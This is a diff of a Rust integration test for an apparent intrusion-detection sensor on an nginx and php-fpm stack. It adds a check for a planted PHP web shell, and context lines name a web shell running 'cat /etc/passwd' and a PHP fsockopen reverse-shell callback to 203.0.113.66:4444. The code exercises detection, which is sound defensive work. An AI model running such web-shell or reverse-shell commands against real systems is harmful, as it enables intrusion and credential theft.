@@ -3,11 +3,12 @@
 use std::{path::Path, process::Command};
 
 use super::{
+    PLANTED, PLANTED_EXPECTED,
     check::{self, Target},
-    copy_fixtures,
     daemon::{Daemon, free_ports, run as run_cmd, user, workdir},
     http,
     netns::{self, Netns},
+    php_web_root, planted_php_shell,
     report::Report,
     sensor::Sensor,
     sensor_config,
@@ -74,11 +75,11 @@ fn write_nginx_conf(dir: &Path, www: &Path, port: u16, fpm_port: u16) -> std::pa
 pub fn run() {
     let dir = workdir("nginx-php");
     let d = dir.path();
-    let www = d.join("www");
-    copy_fixtures("php", &www);
+    let www_dir = php_web_root("nginx-php");
+    let www = www_dir.path();
     let [port, fpm_port] = free_ports();
     let fpm_conf = write_fpm_conf(d, fpm_port);
-    let nginx_conf = write_nginx_conf(d, &www, port, fpm_port);
+    let nginx_conf = write_nginx_conf(d, www, port, fpm_port);
     let config = sensor_config(d);
     let mut report = Report::new("nginx + php-fpm");
 
@@ -188,6 +189,11 @@ pub fn run() {
         check::web_shell(&php, "cat /etc/passwd", "cat", "root:x:0:0", || {
             shell("cat /etc/passwd", "proc_open")
         }),
+    );
+    report.record(
+        PLANTED,
+        PLANTED_EXPECTED,
+        planted_php_shell(&php, &base, www, d),
     );
     report.record(
         "PHP fsockopen to 203.0.113.66:4444 (reverse shell callback)",
